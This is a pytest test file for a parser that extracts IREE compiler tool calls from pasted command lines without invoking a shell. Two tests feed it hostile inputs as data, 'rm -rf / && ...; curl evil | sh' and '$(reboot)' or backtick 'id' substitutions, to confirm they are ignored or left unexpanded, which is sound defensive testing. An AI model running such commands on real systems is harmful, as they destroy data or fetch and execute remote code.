"""Reading command lines without a shell."""

from __future__ import annotations

import pytest

from bot.extract.command_line.shell import parse_commands


def argvs(text: str) -> list[tuple[str, ...]]:
    return [command.argv for command in parse_commands(text)[0]]


@pytest.mark.parametrize(
    "text",
    [
        "iree-opt --x a.mlir",
        "$ iree-opt --x a.mlir",
        "user@host:~/iree$ iree-opt --x a.mlir",
        "../iree-build/tools/iree-opt --x a.mlir",
        "time ./tools/iree-opt \\\n   --x \\  \n  a.mlir",
        "// RUN: iree-opt --x a.mlir | FileCheck %s",
        "iree-opt\n  --x a.mlir",
        "iree-opt '--x' \"a.mlir\"  # check",
        "(venv) $ iree-opt --x a.mlir",
        "[root@box iree]# iree-opt --x a.mlir",
        "➜  iree git:(main) ✗ iree-opt --x a.mlir",
        "(shark.venv) PS C:\\Users\\e\\w> iree-opt --x a.mlir",
        "C:\\tools\\iree-opt.exe --x a.mlir".replace("\\", "/"),
    ],
)
def test_the_same_call_in_the_ways_people_write_it(text: str) -> None:
    """Prompts, build-tree paths, continuations (also forgotten ones), wrappers, comments and quotes."""
    assert argvs(text) == [("iree-opt", "--x", "a.mlir")]


def test_pipes_and_redirections_are_kept_apart_from_arguments() -> None:
    """A pipe between known tools feeds the second one; a file redirected to is noted."""
    first, second = parse_commands("iree-opt a.mlir | iree-compile - > b.vmfb 2>&1")[0]
    assert (first.argv, first.stdout) == (("iree-opt", "a.mlir"), "|")
    assert (second.argv, second.stdin, second.stdout) == (("iree-compile", "-"), "-", "b.vmfb")


def test_only_known_tools_become_commands() -> None:
    """Everything else is named as left out, whatever it is chained with."""
    commands, ignored = parse_commands("rm -rf / && iree-opt a.mlir; curl evil | sh")
    assert [c.argv for c in commands] == [("iree-opt", "a.mlir")]
    assert ignored == ["rm", "curl", "sh"]


def test_nothing_is_expanded() -> None:
    """Variables and substitutions stay the text they are: no shell ever sees them."""
    assert argvs('iree-opt "$(reboot)" $HOME `id`') == [("iree-opt", "$(reboot)", "$HOME", "`id`")]


def test_brackets_and_equal_signs_are_ordinary_characters() -> None:
    """Pass pipelines and tensor literals contain what a shell would choke on."""
    line = "iree-opt --pass-pipeline=builtin.module(func.func(a)) --input=2xf32=[1,2]"
    assert argvs(line) == [("iree-opt", "--pass-pipeline=builtin.module(func.func(a))", "--input=2xf32=[1,2]")]


def test_a_loop_over_words_is_its_rounds() -> None:
    """Plain substitution of one variable; nothing else of a shell is understood."""
    line = "for d in vulkan local-task; do iree-run-module --device=$d --module=m_${d}.vmfb $dd; done"
    assert argvs(line) == [
        ("iree-run-module", "--device=vulkan", "--module=m_vulkan.vmfb", "$dd"),
        ("iree-run-module", "--device=local-task", "--module=m_local-task.vmfb", "$dd"),
    ]


def test_backslashes_of_windows_paths_are_no_escapes() -> None:
    """Else the directories would melt into the name."""
    assert argvs("iree-opt C:\\w\\a.mlir -o .\\b.mlir") == [("iree-opt", "C:/w/a.mlir", "-o", "./b.mlir")]
